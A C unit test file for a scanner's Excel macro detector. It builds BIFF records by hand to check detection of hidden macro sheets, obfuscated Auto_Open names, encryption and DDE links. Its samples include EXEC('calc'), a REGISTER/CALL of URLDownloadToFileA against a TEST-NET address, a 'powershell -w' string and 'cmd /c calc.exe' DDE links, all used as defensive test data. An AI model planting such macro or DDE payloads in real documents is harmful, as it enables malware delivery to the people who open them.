/*
 * test_xls.c - unit tests for xls.c: Excel 4.0 macro sheets, Auto_Open
 * names, encryption and DDE in BIFF5/BIFF8 Workbook streams, BIFF12
 * workbook parts, SYLK and CSV.
 *
 * Real files come from the shared corpus (oletools and ClamAV test data,
 * read in place; a check is skipped when the corpus is absent), their
 * Workbook/Book stream read through ole.h, the .xlsb workbook part
 * through libzip.  Everything else is built here record by record: the
 * formulas call EXEC on "calc" and REGISTER names an API, but nothing
 * runs them, and the URLs are in TEST-NET (192.0.2.0/24).
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <zip.h>

#include "officecrypt.h"
#include "ole.h"
#include "testutil.h"
#include "xls.h"

#define EX4 "oletools/tests/test-data/excel4-macros/"
#define CLAMAV "clamav/unit_tests/input/other_scanfiles/"

/* ---- byte builders ------------------------------------------------------ */

/* Streams and record payloads here are small: a fixed buffer each. */
#define BB_MAX 2048

typedef struct bb {
	uint8_t d[BB_MAX];
	size_t n;
} bb_t;

static void
put(bb_t *b, const void *p, size_t len)
{
	ck_assert_uint_le(len, BB_MAX - b->n);
	memcpy(b->d + b->n, p, len);
	b->n += len;
}

static void
put8(bb_t *b, unsigned v)
{
	uint8_t x = (uint8_t)v;
	put(b, &x, 1);
}

static void
put16(bb_t *b, unsigned v)
{
	put8(b, v & 0xFF);
	put8(b, (v >> 8) & 0xFF);
}

static void
put32(bb_t *b, uint32_t v)
{
	put16(b, v & 0xFFFF);
	put16(b, v >> 16);
}

static void
puts_(bb_t *b, const char *s)
{
	put(b, s, strlen(s));
}

/* A record of TYPE with the payload P (emptied for the next one). */
static void
rec(bb_t *s, unsigned type, bb_t *p)
{
	put16(s, type);
	put16(s, (unsigned)p->n);
	put(s, p->d, p->n);
	p->n = 0;
}

static void
rec0(bb_t *s, unsigned type)
{
	bb_t p = {.n = 0};
	rec(s, type, &p);
}

/* BOF of version VERS (0x0600 BIFF8, 0x0500 BIFF5) and substream DT. */
static void
bof(bb_t *s, unsigned vers, unsigned dt)
{
	bb_t p = {.n = 0};
	put16(&p, vers);
	put16(&p, dt);
	put16(&p, 0x0DBB);
	put16(&p, 0x07CC);
	if (vers == 0x0600) {
		put32(&p, 0);
		put32(&p, 0x0006);
	}
	rec(s, 0x0809, &p);
}

/* BOUNDSHEET whose lbPlyPos is patched later: returns where it is. */
static size_t
boundsheet(bb_t *s, bool biff8, unsigned state, unsigned type, const char *name)
{
	bb_t p = {.n = 0};
	size_t at = s->n + 4;
	put32(&p, 0);
	put8(&p, state);
	put8(&p, type);
	put8(&p, (unsigned)strlen(name));
	if (biff8)
		put8(&p, 0);
	puts_(&p, name);
	rec(s, 0x0085, &p);
	return at;
}

/* The substream of the sheet whose BOUNDSHEET position is at AT starts
 * here, with a BOF of type DT. */
static void
sheet_start(bb_t *s, size_t at, unsigned vers, unsigned dt)
{
	uint32_t pos = (uint32_t)s->n;
	memcpy(s->d + at, &pos, 4); /* little-endian hosts only */
	bof(s, vers, dt);
}

/* NAME (Lbl) with FLAGS and the name NAME (CCH characters: NAME holds
 * 2 * CCH bytes when WIDE); BIFF5 names have no flags byte. */
static void
lbl(bb_t *s, bool biff8, unsigned flags, const void *name, size_t cch,
    bool wide)
{
	bb_t p = {.n = 0};
	put16(&p, flags);
	put8(&p, 0);
	put8(&p, (unsigned)cch);
	put16(&p, 0);
	put16(&p, 0);
	put16(&p, 0);
	put32(&p, 0);
	if (biff8)
		put8(&p, wide ? 1 : 0);
	put(&p, name, wide ? 2 * cch : cch);
	rec(s, 0x0018, &p);
}

/* SUPBOOK of a DDE or OLE link: no sheets, the 8-bit path PATH. */
static void
supbook(bb_t *s, const char *path)
{
	bb_t p = {.n = 0};
	put16(&p, 0);
	put16(&p, (unsigned)strlen(path));
	put8(&p, 0);
	puts_(&p, path);
	rec(s, 0x01AE, &p);
}

/* EXTERNNAME with FLAGS and the 8-bit name NAME. */
static void
externname(bb_t *s, unsigned flags, const char *name)
{
	bb_t p = {.n = 0};
	put16(&p, flags);
	put32(&p, 0);
	put8(&p, (unsigned)strlen(name));
	put8(&p, 0);
	puts_(&p, name);
	rec(s, 0x0023, &p);
}

/* FORMULA at A1 with the tokens RGCE (CCE bytes). */
static void
formula(bb_t *s, const void *rgce, size_t cce)
{
	bb_t p = {.n = 0};
	put(&p, "\0\0\0\0\x0f\0", 6);   /* rw, col, ixfe */
	put(&p, "\0\0\0\0\0\0\0\0", 8); /* value */
	put(&p, "\0\0\0\0\0\0", 6);     /* grbit, chn */
	put16(&p, (unsigned)cce);
	put(&p, rgce, cce);
	rec(s, 0x0006, &p);
}

/* A BIFF8 workbook: globals with a sheet of STATE and TYPE named NAME,
 * a macro sheet by its BOF, whose one cell holds RGCE. */
static void
macro_book(bb_t *book, unsigned state, unsigned type, const char *name,
           const void *rgce, size_t cce)
{
	bb_t s = {.n = 0};
	size_t at;
	bof(&s, 0x0600, 0x0005);
	at = boundsheet(&s, true, state, type, name);
	rec0(&s, 0x000A);
	sheet_start(&s, at, 0x0600, 0x0040);
	formula(&s, rgce, cce);
	rec0(&s, 0x000A);
	*book = s;
}

static void
check_has(const emg_strlist_t *l, const char *s)
{
	ck_assert_msg(strlist_has_nocase(l, s),
	              "\"%s\" missing (%zu entries%s%s)", s, l->n,
	              l->n ? ", first " : "", l->n ? l->v[0] : "");
}

/* True when an entry of L contains S. */
static bool
has_sub(const emg_strlist_t *l, const char *s)
{
	for (size_t i = 0; i < l->n; i++)
		if (strstr(l->v[i], s) != NULL)
			return true;
	return false;
}

/* The Workbook or Book stream of the corpus file PATH (NULL when the
 * corpus is absent). */
static uint8_t *
corpus_workbook(const char *path, size_t *len)
{
	size_t flen;
	uint8_t *file = tu_corpus_read(path, &flen), *s = NULL;
	ole_file_t *f;
	char why[128];

	if (file == NULL)
		return NULL;
	ck_assert_msg(ole_open(file, flen, &f, why, sizeof(why)) == EMG_OK,
	              "%s: %s", path, why);
	ck_assert_int_eq(ole_read(f, "Workbook", 64 << 20, &s, len), EMG_OK);
	if (s == NULL)
		ck_assert_int_eq(ole_read(f, "Book", 64 << 20, &s, len),
		                 EMG_OK);
	ck_assert_msg(s != NULL, "%s: no Workbook or Book stream", path);
	ole_close(f);
	free(file);
	return s;
}

/* ---- corpus ------------------------------------------------------------- */

START_TEST(test_corpus_macro_books)
{
	static const char *const files[] = {
	    EX4 "excel4_sample_macro.xls", EX4 "excel4_sample_macro.xlt",
	    EX4 "excel4_sample_macro_excel5_format.xls"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		size_t len;
		uint8_t *s = corpus_workbook(files[i], &len);
		xls_result_t r;
		if (s == NULL)
			continue;
		ck_assert_int_eq(xls_scan_biff(s, len, &r), EMG_OK);
		ck_assert_msg(r.workbook && r.macro_sheets >= 1, "%s",
		              files[i]);
		check_has(&r.auto_names, "Auto_Open");
		check_has(&r.sheets, "Macro1");
		ck_assert(!r.encrypted);
		ck_assert_uint_eq(r.problems.n, 0);
		xls_result_free(&r);
		free(s);
	}
}
END_TEST

START_TEST(test_corpus_sylk)
{
	size_t len;
	uint8_t *d = tu_corpus_read(EX4 "excel4_sample_macro.slk", &len);
	xls_result_t r;

	if (d == NULL)
		return;
	ck_assert(xls_is_sylk(d, len));
	ck_assert_int_eq(xls_scan_sylk(d, len, &r), EMG_OK);
	ck_assert_uint_ge(r.macro_sheets, 1);
	check_has(&r.auto_names, "Auto_Open");
	xls_result_free(&r);
	free(d);
}
END_TEST

/* Every other workbook of the corpus holds no macro sheet. */
START_TEST(test_corpus_plain_books)
{
	static const char *const files[] = {
	    "oletools/tests/test-data/oleobj/embedded-simple-2007.xls",
	    "oletools/tests/test-data/oleobj/embedded-simple-2007.xla",
	    "oletools/tests/test-data/oleobj/embedded-simple-2007.xlt",
	    CLAMAV "has_png_and_jpeg.xls"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		size_t len;
		uint8_t *s = corpus_workbook(files[i], &len);
		xls_result_t r;
		if (s == NULL)
			continue;
		ck_assert_int_eq(xls_scan_biff(s, len, &r), EMG_OK);
		ck_assert_msg(r.workbook && r.macro_sheets == 0 &&
		                  r.auto_names.n == 0 && !r.encrypted,
		              "%s", files[i]);
		xls_result_free(&r);
		free(s);
	}
}
END_TEST

START_TEST(test_corpus_encrypted)
{
	static const char *const files[] = {
	    "oletools/tests/test-data/encrypted/encrypted.xls",
	    "oletools/tests/test-data/encrypted/"
	    "dde-test-encrypt-standardpassword.xls",
	    "oletools/tests/test-data/encrypted/"
	    "autostart-encrypt-standardpassword.xls",
	    CLAMAV "ole2_encryption/password.fat.xls",
	    CLAMAV "ole2_encryption/password.ministream.xls"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		size_t len, at;
		uint8_t *s = corpus_workbook(files[i], &len);
		xls_result_t r;
		if (s == NULL)
			continue;
		ck_assert_int_eq(xls_scan_biff(s, len, &r), EMG_OK);
		ck_assert_msg(r.encrypted, "%s", files[i]);
		at = r.filepass_offset;
		ck_assert_uint_le(at + 4 + r.filepass_len, len);
		ck_assert_uint_eq(s[at] | s[at + 1] << 8, 0x002F);
		ck_assert_uint_eq(s[at + 2] | s[at + 3] << 8, r.filepass_len);
		ck_assert_uint_eq(r.macro_sheets, 0);
		xls_result_free(&r);
		free(s);
	}
}
END_TEST

/* Once decrypted (officecrypt.c, FILEPASS turned into type 0xFFFF) the
 * DDE link of dde-test-encrypt-standardpassword.xls shows. */
START_TEST(test_corpus_decrypted_dde)
{
	size_t len;
	uint8_t *s = corpus_workbook("oletools/tests/test-data/encrypted/"
	                             "dde-test-encrypt-standardpassword.xls",
	                             &len),
	        *plain = NULL;
	officecrypt_t *c = NULL;
	xls_result_t r;
	char why[128];
	bool ok = false;

	if (s == NULL)
		return;
	ck_assert_int_eq(xls_scan_biff(s, len, &r), EMG_OK);
	ck_assert(r.encrypted);
	if (officecrypt_from_filepass(s + r.filepass_offset + 4, r.filepass_len,
	                              &c, why, sizeof(why)) == EMG_OK &&
	    officecrypt_try(c, "VelvetSweatshop", &ok) == EMG_OK && ok &&
	    officecrypt_decrypt_biff(c, s, len, &plain) == EMG_OK) {
		xls_result_free(&r);
		ck_assert_int_eq(xls_scan_biff(plain, len, &r), EMG_OK);
		ck_assert(!r.encrypted);
		ck_assert_msg(has_sub(&r.dde, "cmd|'/c calc.exe'"), "dde: %s",
		              r.dde.n ? r.dde.v[0] : "none");
	}
	xls_result_free(&r);
	officecrypt_free(c);
	free(plain);
	free(s);
}
END_TEST

START_TEST(test_corpus_csv)
{
	size_t len;
	uint8_t *d = tu_corpus_read(
	    "oletools/tests/test-data/msodde/dde-in-csv.csv", &len);
	xls_result_t r;

	if (d == NULL)
		return;
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_csv(d, len, &r), EMG_OK);
	ck_assert_uint_eq(r.dde.n, 1);
	ck_assert_ptr_nonnull(strstr(r.dde.v[0], "=cmd|'/k "));
	xls_result_free(&r);
	free(d);
}
END_TEST

/* good.csv of SpamAssassin's goodcsv.eml is a negative control. */
START_TEST(test_corpus_good_csv)
{
	size_t len;
	char *m = (char *)tu_corpus_read(
	    "spamassassin/t/data/spam/olevbmacro/goodcsv.eml", &len);
	const char *body, *end;
	xls_result_t r;

	if (m == NULL)
		return;
	m = realloc(m, len + 1);
	m[len] = '\0';
	body = strstr(m, "filename=\"good.csv\"");
	ck_assert_ptr_nonnull(body);
	body = strstr(body, "\n\n");
	ck_assert_ptr_nonnull(body);
	end = strstr(body + 2, "\n--");
	ck_assert_ptr_nonnull(end);
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_csv((const uint8_t *)body + 2,
	                              (size_t)(end - body - 2), &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.dde.n, 0);
	xls_result_free(&r);
	free(m);
}
END_TEST

/* The workbook part of the .xlsb sample, through libzip. */
START_TEST(test_corpus_xlsb_workbook)
{
	size_t len;
	uint8_t *d = tu_corpus_read(EX4 "excel4_sample_macro.xlsb", &len),
	        *part;
	zip_error_t err;
	zip_source_t *src;
	zip_t *z;
	zip_file_t *f;
	zip_stat_t st;
	xls_result_t r;

	if (d == NULL)
		return;
	zip_error_init(&err);
	src = zip_source_buffer_create(d, len, 0, &err);
	ck_assert_ptr_nonnull(src);
	z = zip_open_from_source(src, ZIP_RDONLY, &err);
	ck_assert_ptr_nonnull(z);
	ck_assert_int_eq(zip_stat(z, "xl/workbook.bin", 0, &st), 0);
	part = malloc(st.size);
	f = zip_fopen(z, "xl/workbook.bin", 0);
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(zip_fread(f, part, st.size), (zip_int64_t)st.size);
	zip_fclose(f);
	zip_close(z);
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_biff12_workbook(part, st.size, &r), EMG_OK);
	ck_assert(r.workbook);
	check_has(&r.auto_names, "Auto_Open");
	ck_assert_uint_eq(r.sheets.n, 2);
	ck_assert_uint_eq(r.sheet_rels.n, 2);
	ck_assert_str_eq(r.sheets.v[0], "Macro1");
	ck_assert_str_eq(r.sheet_rels.v[0], "rId1");
	ck_assert_uint_eq(r.problems.n, 0);
	xls_result_free(&r);
	free(part);
	free(d);
}
END_TEST

/* ---- hand-made BIFF8 ---------------------------------------------------- */

/* EXEC("calc") */
static const uint8_t rgce_exec[] = {0x17, 4,    0, 'c',  'a', 'l',
                                    'c',  0x22, 1, 0x6E, 0x00};

START_TEST(test_hidden_sheets)
{
	bb_t s = {.n = 0};
	size_t m1, m2, ws, vb;
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	m1 = boundsheet(&s, true, 1, 1, "Macro1");
	ws = boundsheet(&s, true, 0, 0, "Sheet1");
	m2 = boundsheet(&s, true, 2, 1, "Macro2");
	vb = boundsheet(&s, true, 0, 6, "Module1");
	rec0(&s, 0x000A);
	sheet_start(&s, m1, 0x0600, 0x0040);
	formula(&s, rgce_exec, sizeof(rgce_exec));
	rec0(&s, 0x000A);
	sheet_start(&s, ws, 0x0600, 0x0010);
	rec0(&s, 0x000A);
	sheet_start(&s, m2, 0x0600, 0x0040);
	rec0(&s, 0x000A);
	sheet_start(&s, vb, 0x0600, 0x0006);
	rec0(&s, 0x000A);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 2);
	ck_assert_uint_eq(r.hidden, 1);
	ck_assert_uint_eq(r.very_hidden, 1);
	check_has(&r.sheets, "Macro1 (hidden)");
	check_has(&r.sheets, "Macro2 (very hidden)");
	check_has(&r.formulas, "EXEC");
	ck_assert_uint_eq(r.problems.n, 0);
	xls_result_free(&r);
}
END_TEST

/* A worksheet in BOUNDSHEET whose own BOF says macro sheet still counts. */
START_TEST(test_bof_says_macro)
{
	bb_t s;
	xls_result_t r;

	macro_book(&s, 0, 0, "Sheet1", rgce_exec, sizeof(rgce_exec));
	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	check_has(&r.formulas, "EXEC");
	ck_assert(has_sub(&r.problems, "BOF says macro sheet"));
	xls_result_free(&r);
}
END_TEST

START_TEST(test_builtin_names)
{
	static const uint8_t wide_close[] = {0x02, 0x00};
	bb_t s = {.n = 0};
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	lbl(&s, true, 0x0020, "\x01", 1, false);    /* Auto_Open */
	lbl(&s, true, 0x0021, wide_close, 1, true); /* hidden Auto_Close */
	lbl(&s, true, 0x0020, "\x06", 1, false);    /* Print_Area */
	lbl(&s, true, 0x0000, "\x01", 1, false);    /* not built-in */
	rec0(&s, 0x000A);
	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.auto_names.n, 2);
	check_has(&r.auto_names, "Auto_Open");
	check_has(&r.auto_names, "Auto_Close");
	ck_assert_uint_eq(r.macro_sheets, 0);
	xls_result_free(&r);
}
END_TEST

typedef struct name_case {
	const char *name; /* UTF-8 source, turned into UTF-16 code units */
	size_t len;       /* bytes of NAME (it may hold NULs) */
	bool wide;
	const char *want; /* entry in AUTO_NAMES, or NULL for none */
} name_case_t;

START_TEST(test_obfuscated_names)
{
	static const name_case_t cases[] = {
	    {"auTo_oPen", 9, false, "auTo_oPen"},
	    {"Auto_Open21", 11, false, "Auto_Open21"},
	    {"\0Auto_Open", 10, false, "\\x00Auto_Open"},
	    {"Auto_Open", 9, true, "Auto_Open"}, /* UTF-16 code units */
	    {"_xlnm.Auto_Open", 15, false, "_xlnm.Auto_Open"},
	    {"  Auto_Close", 12, false, "  Auto_Close"},
	    {"AUTO_ACTIVATE", 13, false, "AUTO_ACTIVATE"},
	    {"Auto\x7f_Open", 10, false, "Auto\\x7F_Open"},
	    {"MyAuto_Open", 11, false, NULL},
	    {"AutoOpen", 8, false, NULL},
	    {"Auto_Ope", 8, false, NULL},
	    {"Print_Area", 10, false, NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const name_case_t *c = &cases[i];
		uint8_t wide[64];
		bb_t s = {.n = 0};
		xls_result_t r;
		for (size_t k = 0; k < c->len; k++)
			wide[2 * k] = (uint8_t)c->name[k], wide[2 * k + 1] = 0;
		bof(&s, 0x0600, 0x0005);
		lbl(&s, true, 0, c->wide ? (const void *)wide : c->name, c->len,
		    c->wide);
		rec0(&s, 0x000A);
		ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
		if (c->want == NULL)
			ck_assert_msg(r.auto_names.n == 0, "case %zu: %s", i,
			              r.auto_names.n ? r.auto_names.v[0] : "");
		else {
			ck_assert_msg(r.auto_names.n == 1, "case %zu", i);
			ck_assert_str_eq(r.auto_names.v[0], c->want);
		}
		xls_result_free(&r);
	}
}
END_TEST

/* Names Excel still runs though they do not read as ASCII: a zero-width
 * space inside, fullwidth letters. */
START_TEST(test_unicode_names)
{
	static const uint16_t zw[] = {'A', 'u', 't', 'o', 0x200B,
	                              '_', 'O', 'p', 'e', 'n'};
	static const uint16_t full[] = {0xFF21, 0xFF55, 0xFF54, 0xFF4F, '_',
	                                0xFF2F, 0xFF50, 0xFF45, 0xFF4E};
	bb_t s = {.n = 0};
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	lbl(&s, true, 0, zw, sizeof(zw) / 2, true);
	lbl(&s, true, 0, full, sizeof(full) / 2, true);
	rec0(&s, 0x000A);
	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.auto_names.n, 2);
	ck_assert_str_eq(r.auto_names.v[0], "Auto\\u200B_Open");
	ck_assert_str_eq(r.auto_names.v[1], "\xEF\xBC\xA1\xEF\xBD\x95\xEF\xBD"
	                                    "\x94\xEF\xBD\x8F_\xEF\xBC\xAF\xEF"
	                                    "\xBD\x90\xEF\xBD\x85\xEF\xBD\x8E");
	xls_result_free(&r);
}
END_TEST

START_TEST(test_formula_calls)
{
	bb_t t = {.n = 0}, s;
	xls_result_t r;

	/* REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Get",,1,9) */
	put(&t, "\x17\x06\x00urlmon", 9);
	put(&t, "\x17\x12\x00URLDownloadToFileA", 21);
	put(&t, "\x17\x06\x00JJCCJJ", 9);
	put(&t, "\x17\x03\x00Get", 6);
	put(&t, "\x16", 1);                     /* missing argument */
	put(&t, "\x1e\x01\x00\x1e\x09\x00", 6); /* 1, 9 */
	put(&t, "\x22\x07\x95\x00", 4);
	/* CALL as ptgFuncV, then a URL as a UTF-16 string */
	put(&t, "\x41\x96\x00", 3);
	put8(&t, 0x17);
	put8(&t, 24);
	put8(&t, 1);
	for (const char *u = "http://192.0.2.1/a.html)"; *u; u++)
		put16(&t, (uint8_t)*u);
	/* FOPEN, then a number whose bytes look like a call of EXEC */
	put(&t, "\x21\x84\x00", 3);
	put(&t, "\x1f\x22\x01\x6e\x00\x22\x01\x6e\x00", 9);
	/* ptgAttr choose with two offsets, ptgRef, then FWRITE */
	put(&t, "\x19\x04\x01\x00\x00\x00\x00\x00", 8);
	put(&t, "\x44\x00\x00\x00\x00", 5);
	put(&t, "\x22\x02\x8a\x00", 4);
	/* an alert (a command), then an unknown token: nothing after it */
	put(&t, "\x42\x01\x76\x80", 4);
	put(&t, "\x18\x22\x01\x6e\x00", 5);
	macro_book(&s, 0, 1, "Macro1", t.d, t.n);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	check_has(&r.formulas, "REGISTER");
	check_has(&r.formulas, "URLDownloadToFileA");
	check_has(&r.formulas, "CALL");
	check_has(&r.formulas, "URL http://192.0.2.1/a.html");
	check_has(&r.formulas, "FOPEN");
	check_has(&r.formulas, "FWRITE");
	ck_assert_uint_eq(r.formulas.n, 6); /* no EXEC from the number */
	xls_result_free(&r);
}
END_TEST

/* SHRFMLA, ARRAY, STRING and LABEL cells of a macro sheet are read; a
 * chart inside it and the formulas of a worksheet are not. */
START_TEST(test_other_cells)
{
	bb_t s = {.n = 0}, p = {.n = 0};
	size_t m, ws;
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	m = boundsheet(&s, true, 0, 1, "Macro1");
	ws = boundsheet(&s, true, 0, 0, "Sheet1");
	rec0(&s, 0x000A);
	sheet_start(&s, m, 0x0600, 0x0040);
	put(&p, "\0\0\0\0\0\0\0\x01\x03\x00\x21\x6e\x00", 13);
	rec(&s, 0x04BC, &p); /* SHRFMLA: EXEC */
	put(&p, "\0\0\0\0\0\0\0\0\0\0\0\0\x03\x00\x21\x96\x00", 17);
	rec(&s, 0x0221, &p); /* ARRAY: CALL */
	put(&p, "\x0d\x00\x00powershell -w", 16);
	rec(&s, 0x0207, &p); /* STRING */
	put(&p, "\0\0\0\0\x0f\0\x12\x00\x00http://192.0.2.7/p", 27);
	rec(&s, 0x0204, &p);     /* LABEL */
	bof(&s, 0x0600, 0x0020); /* a chart */
	formula(&s, "\x22\x01\x95\x00", 4);
	rec0(&s, 0x000A);
	rec0(&s, 0x000A);
	sheet_start(&s, ws, 0x0600, 0x0010);
	formula(&s, "\x21\x84\x00", 3);
	rec0(&s, 0x000A);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	check_has(&r.formulas, "EXEC");
	check_has(&r.formulas, "CALL");
	check_has(&r.formulas, "powershell");
	check_has(&r.formulas, "URL http://192.0.2.7/p");
	ck_assert_uint_eq(r.formulas.n, 4); /* no REGISTER, no FOPEN */
	ck_assert_uint_eq(r.problems.n, 0);
	xls_result_free(&r);
}
END_TEST

/* A formula whose tokens continue in CONTINUE records, and a record after
 * the chain. */
START_TEST(test_continue_chain)
{
	bb_t s = {.n = 0}, p = {.n = 0};
	size_t at;
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	at = boundsheet(&s, true, 0, 1, "Macro1");
	rec0(&s, 0x000A);
	sheet_start(&s, at, 0x0600, 0x0040);
	put(&p, "\0\0\0\0\x0f\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 20);
	put16(&p, 3 + 40 + 4);
	put(&p, "\x17\x28\x00", 3); /* a 40-character string ... */
	put(&p, "0123456789", 10);
	rec(&s, 0x0006, &p);
	put(&p, "0123456789012345678901234567890", 30); /* ... continued */
	rec(&s, 0x003C, &p);
	put(&p, "\x22\x01\x6e\x00", 4); /* EXEC */
	rec(&s, 0x003C, &p);
	formula(&s, "\x21\x96\x00", 3); /* CALL */
	rec0(&s, 0x000A);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	check_has(&r.formulas, "EXEC");
	check_has(&r.formulas, "CALL");
	ck_assert_uint_eq(r.problems.n, 0);
	xls_result_free(&r);
}
END_TEST

/* Every cut of a workbook reads without harm; a cut inside a header or
 * a payload is a problem and what came before is kept. */
START_TEST(test_truncated)
{
	bb_t s;
	xls_result_t r;

	macro_book(&s, 2, 1, "Macro1", rgce_exec, sizeof(rgce_exec));
	for (size_t cut = 0; cut <= s.n; cut++) {
		uint8_t *copy = malloc(cut ? cut : 1);
		memcpy(copy, s.d, cut);
		ck_assert_int_eq(xls_scan_biff(copy, cut, &r), EMG_OK);
		ck_assert_uint_le(r.macro_sheets, 1);
		xls_result_free(&r);
		free(copy);
	}
	ck_assert_int_eq(xls_scan_biff(s.d, 22, &r), EMG_OK);
	ck_assert(r.workbook);
	ck_assert(has_sub(&r.problems, "truncated record header at offset 20"));
	xls_result_free(&r);
	ck_assert_int_eq(xls_scan_biff(s.d, 30, &r), EMG_OK);
	ck_assert(has_sub(&r.problems, "past the end"));
	xls_result_free(&r);
	ck_assert_int_eq(xls_scan_biff(s.d, s.n - 6, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	ck_assert_uint_eq(r.very_hidden, 1);
	ck_assert(has_sub(&r.problems, "past the end"));
	xls_result_free(&r);
}
END_TEST

START_TEST(test_length_past_end)
{
	bb_t s;
	xls_result_t r;

	macro_book(&s, 0, 1, "Macro1", rgce_exec, sizeof(rgce_exec));
	s.d[22] = 0xFF; /* the BOUNDSHEET's length */
	s.d[23] = 0xFF;
	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 0);
	ck_assert(
	    has_sub(&r.problems,
	            "record 0x0085 at offset 20: length 65535 past the end"));
	xls_result_free(&r);
	ck_assert_int_eq(xls_scan_biff(NULL, 0, &r), EMG_OK);
	ck_assert(!r.workbook);
	ck_assert_uint_eq(r.problems.n, 1);
	xls_result_free(&r);
}
END_TEST

/* A BOF and then more INTERFACEEND records than XLS_MAX_RECORDS. */
START_TEST(test_max_records)
{
	size_t n = 4 * ((size_t)XLS_MAX_RECORDS + 8);
	uint8_t *s = malloc(n);
	bb_t head = {.n = 0};
	xls_result_t r;

	ck_assert_ptr_nonnull(s);
	bof(&head, 0x0600, 0x0005);
	for (size_t i = 0; i < n; i += 4)
		memcpy(s + i, "\xe2\x00\x00\x00", 4);
	memcpy(s, head.d, head.n);
	ck_assert_int_eq(xls_scan_biff(s, n, &r), EMG_OK);
	ck_assert(r.workbook);
	ck_assert(has_sub(&r.problems, "more than 1000000 records"));
	xls_result_free(&r);
	free(s);
}
END_TEST

/* After FILEPASS only the BOF and BOUNDSHEET positions are read. */
START_TEST(test_filepass)
{
	bb_t s = {.n = 0}, p = {.n = 0};
	size_t at;
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	put16(&p, 1);
	for (int i = 0; i < 52; i++)
		put8(&p, 0xA5);
	rec(&s, 0x002F, &p);
	at = boundsheet(&s, true, 2, 1, "Macro1");
	s.d[at + 4] = 0x5A; /* the rest is ciphertext */
	s.d[at + 5] = 0x5A;
	lbl(&s, true, 0x0020, "\x01", 1, false);
	rec0(&s, 0x000A);
	sheet_start(&s, at, 0x0600, 0x0040);
	formula(&s, rgce_exec, sizeof(rgce_exec));
	rec0(&s, 0x000A);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert(r.encrypted);
	ck_assert_uint_eq(r.filepass_offset, 20);
	ck_assert_uint_eq(r.filepass_len, 54);
	ck_assert_uint_eq(r.macro_sheets, 1);
	ck_assert_uint_eq(r.very_hidden, 0);
	ck_assert(has_sub(&r.sheets, "name encrypted"));
	ck_assert_uint_eq(r.formulas.n, 0);
	ck_assert_uint_eq(r.auto_names.n, 0);

	/* The decrypted form: FILEPASS has type 0xFFFF, the rest is clear. */
	s.d[20] = 0xFF;
	s.d[21] = 0xFF;
	s.d[at + 4] = 2;
	s.d[at + 5] = 1;
	xls_result_free(&r);
	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert(!r.encrypted);
	ck_assert_uint_eq(r.very_hidden, 1);
	check_has(&r.auto_names, "Auto_Open");
	check_has(&r.formulas, "EXEC");
	xls_result_free(&r);
}
END_TEST

/* BIFF5 has 8-bit strings and other token sizes. */
START_TEST(test_biff5)
{
	bb_t s = {.n = 0}, t = {.n = 0};
	size_t at;
	xls_result_t r;

	bof(&s, 0x0500, 0x0005);
	lbl(&s, false, 0x0020, "\x01", 1, false);
	lbl(&s, false, 0, "auto_close_x", 12, false);
	at = boundsheet(&s, false, 1, 1, "Macro1");
	rec0(&s, 0x000A);
	sheet_start(&s, at, 0x0500, 0x0040);
	put(&t, "\x44\x01\x00\x02", 4); /* ptgRef: 3 bytes in BIFF5 */
	put8(&t, 0x59);                 /* ptgNameX: 24 bytes */
	for (int i = 0; i < 24; i++)
		put8(&t, 0x22);
	put(&t, "\x17\004calc", 6);     /* no flags byte */
	put(&t, "\x22\x01\x6e\x00", 4); /* EXEC */
	formula(&s, t.d, t.n);
	rec0(&s, 0x000A);

	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	ck_assert_uint_eq(r.hidden, 1);
	check_has(&r.sheets, "Macro1 (hidden)");
	check_has(&r.auto_names, "Auto_Open");
	check_has(&r.auto_names, "auto_close_x");
	ck_assert_uint_eq(r.formulas.n, 1);
	check_has(&r.formulas, "EXEC");
	xls_result_free(&r);
}
END_TEST

START_TEST(test_supbook_dde)
{
	bb_t s = {.n = 0};
	xls_result_t r;

	bof(&s, 0x0600, 0x0005);
	supbook(&s, "cmd\003/c calc.exe");
	externname(&s, 0x7FE2, "A1");
	supbook(&s, "Package\003C:\\x\\y.bin"); /* an OLE link: not DDE */
	externname(&s, 0x0008, "1");
	put(&s, "\xae\x01\x04\x00\x01\x00\x01\x04", 8); /* self-reference */
	rec0(&s, 0x000A);

